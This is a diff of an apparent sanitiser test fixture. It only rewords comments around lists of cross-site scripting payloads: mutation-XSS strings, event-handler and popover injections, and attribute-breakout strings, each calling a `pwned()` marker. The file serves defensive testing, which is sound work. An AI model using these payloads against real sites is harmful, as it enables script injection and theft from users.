@@ -1,6 +1,7 @@
 /*
- * Texts that would be code if anything took them for HTML, an attribute, a style or an address. Each calls `pwned()` or fetches
- * from evil.example when it comes alive. Written for this project; the kinds are those of the well-known cheat sheets.
+ * Texts that would be code if anything interpreted them as HTML, an attribute, a style or an address. Each one calls
+ * `pwned()` or fetches from evil.example when it is executed. Written for this project, after the kinds of well-known
+ * cheat sheets.
  */
 
 const CALL = 'pwned()';
@@ -147,7 +148,7 @@ const plain = [
   `<div popover id=p onbeforetoggle=${CALL}>x</div><button popovertarget=p>x</button>`,
 ];
 
-/** Sanitisers have read these as harmless once, and browsers not. */
+/** Sanitisers once considered these harmless, but browsers executed them. */
 const mutating = [
   `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
   `<math></p><style><!--</style><img src=1 onerror=${CALL}>--></style>`,
@@ -201,10 +202,10 @@ const vector = [
 const EVENTS =
   'onload onerror onclick onmouseover onfocus onpointerenter onanimationstart ontoggle onbegin onwheel'.split(' ');
 const TAGS = ['b', 'div', 'img src=x', 'details open', 'body', 'marquee', 'svg', 'input autofocus', 'video src=x'];
-/** Every element can listen. */
+/** Every element can have event handlers. */
 const listening = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${CALL}>x`));
 
-/** Out of an attribute, a text of a script, a style, an address. */
+/** Texts that break out of an attribute, a script, a style or an address. */
 const breaking = [
   ...['"', "'", '`', '', '">', "'>", '"/>', '" ', "' "].map((quote) => `${quote} onmouseover=${CALL} x=${quote}`),
   `" autofocus onfocus=${CALL} x="`,
